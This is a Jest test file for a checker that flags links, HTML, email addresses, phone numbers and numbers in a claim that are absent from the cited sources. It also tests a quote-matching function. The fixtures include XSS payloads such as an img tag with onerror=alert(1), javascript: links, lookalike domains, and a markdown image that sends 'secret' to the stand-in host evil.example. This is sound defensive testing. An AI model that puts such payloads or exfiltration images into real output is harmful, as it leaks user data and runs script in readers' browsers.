import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { findForeignParts, findQuote } from "./find-foreign-parts.ts";

const CITED = [
  "Open https://acme.example/help/start?x=1, or [the shop](https://shop.acme.example/).",
  "Write to help@acme.example or call +49 (30) 123 456-78. It costs 1,299.50 € a year, and 05 days are free.",
  "Use Node.js 20.19. We open at three in the afternoon.",
].join("\n");
const QUESTION = "I paid 42 € at http://evil.example, is that right?";

const foreign = (claim: string) => findForeignParts(claim, { texts: [CITED], question: QUESTION });

describe("findForeignParts", () => {
  test.each([
    "See https://acme.example/help/start?x=1.",
    "See [this page](https://acme.example/help/start).",
    "See acme.example, or <https://shop.acme.example>.",
    "Write to HELP@acme.example.",
    "Call +49 30 12345678.",
    "It costs 1299.50 €, or 1.299,50 €.",
    "5 days are free.",
    "You paid 42 €.",
    "We open at 3 p.m.",
    "You paid 42.00 € on 05.05.05, 05-05-0005 or so.",
    "It needs Node.js 20.19, e.g. for tests.",
    "You paid 𝟜𝟚 €.",
    "It&nbsp;costs 42 € &amp; more, where 3 < 5.",
    "1. Open it.\n2. Close it.\n17. Go home.",
    "Es kostet ١٬٢٩٩ nicht.".replace("١٬٢٩٩", "٤٢"),
  ])("%p holds nothing but what is cited, or numbers that were asked about", (claim) => {
    expect(foreign(claim)).toEqual([]);
  });

  test.each([
    ["See https://acme.example.evil.example/help.", "link"],
    ["See https://acme.exam", "link"],
    ["See http://evil.example", "link"],
    ["See evil.example", "link"],
    ["See [acme.example](http://evil.example).", "link"],
    ["See [this](javascript:alert(1)).", "link"],
    ["See [this](/logout).", "link"],
    ["See [this][1].\n\n[1]: http://evil.example", "link"],
    ["See [this](//evil.example/x).", "link"],
    ["See [this [page] here](//evil.example).", "link"],
    [String.raw`See [a\]b](//evil.example).`, "link"],
    ["See [this](< //evil.example>).", "link"],
    ["See [this][b].\n\n> [b]: //evil.example", "link"],
    ["See //evil.example/x", "link"],
    ["See <skype:evil?call>.", "link"],
    ["See evil\u3002example", "link"],
    ["See evil\uFF0Eexample", "link"],
    ["See evil\u2060.example", "link"],
    ["See \u0430cme.example", "link"],
    ["See evil&#46;example", "HTML"],
    ["See https&colon;//x", "HTML"],
    ["Look: \\`<img src=/x>\\`", "HTML"],
    ["`\n\n<img src=/x>\n\n`", "HTML"],
    ["<img/src=/x/onerror=alert(1)>", "HTML"],
    ['<img alt="<" src=/x>', "HTML"],
    ["<script src=/x", "HTML"],
    ["What the next claim makes a tag of: <img", "HTML"],
    ["What the next claim makes a link of: [this](", "HTML"],
    ["![pixel](https://evil.example/?q=secret)", "image"],
    ["Hello <b>you</b>", "HTML"],
    ["<!-- hidden -->", "HTML"],
    ["Write to help@evil.example", "email address"],
    ["Call +49 30 99999999", "phone number"],
    ["It costs 1300 €.", "number"],
    ["It costs 12 €.", "number"],
    ["It costs 𝟙𝟚 €.", "number"],
  ] as const)("%p holds a foreign %s", (claim, kind) => {
    expect(foreign(claim).map((part) => part.kind)).toContain(kind);
  });

  test("code may show tags", () => {
    expect(foreign("Write `<b>` there.")).toEqual([]);
    expect(foreign("Write ``a ` <b>``:\n\n```html\n<b>you</b>\n```")).toEqual([]);
  });

  test("takes time in proportion to the text", () => {
    for (const piece of ["a.", "1 ", "[", "![](", "@", "<a ", "+1-", "://", "](", "[a\n", "`", "```\n", "<!", "&a"]) {
      expect(() => foreign(piece.repeat(4_000 / piece.length))).not.toThrow();
    }
  });
});

const TEXT = [
  "# Backups",
  "",
  "Backups run **every night** at 2:00. They're kept for “30 days”,",
  "then deleted. See [the settings](https://acme.example/settings) for more.",
  "",
  "1. Open *Settings*.",
  "2. Choose “Backups”.",
  "",
  "| Plan | Space |",
  "| --- | --- |",
  "| Pro | 10 GB |",
].join("\n");

describe("findQuote", () => {
  test.each([
    ["Backups run every night at 2:00.", "Backups run **every night** at 2:00."],
    ["backups run every night", "Backups run **every night**"],
    ['They’re kept for "30 days", then deleted.', "They're kept for “30 days”,\nthen deleted."],
    ["See the settings for more", "See [the settings](https://acme.example/settings) for more."],
    ["Open Settings. Choose Backups.", "Open *Settings*.\n2. Choose “Backups”."],
    ["Pro | 10 GB", "Pro | 10 GB"],
    [
      "Backups run every night … then deleted",
      "Backups run **every night** at 2:00. They're kept for “30 days”,\nthen deleted.",
    ],
  ])("finds %p whatever white space, quotes and Markdown, and answers what stands in the text", (quote, found) => {
    expect(findQuote(quote, TEXT)).toBe(found);
    expect(TEXT).toContain(found);
  });

  test.each([
    "Backups run every day",
    "Backups run every nigh",
    "They are kept for 30 days",
    "kept for 300 days",
    "at 2:00 every night",
    "then deleted … Backups run every night",
    "night",
    "…",
    "",
    "   ",
    "**",
  ])("%p does not stand there, or says nothing", (quote) => {
    expect(findQuote(quote, TEXT)).toBeNull();
  });

  test("finds part of a sentence in scripts without spaces", () => {
    expect(findQuote("毎晩バックアップ", "当社は毎晩バックアップを行います。")).toBe("毎晩バックアップ");
  });

  test("what is found stands in the text, whatever is quoted", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 80 }), fc.nat(80), fc.nat(80), (text, from, length) => {
        const found = findQuote(text.slice(from, from + length), text);
        expect(found === null || text.includes(found)).toBe(true);
      }),
    );
  });
});
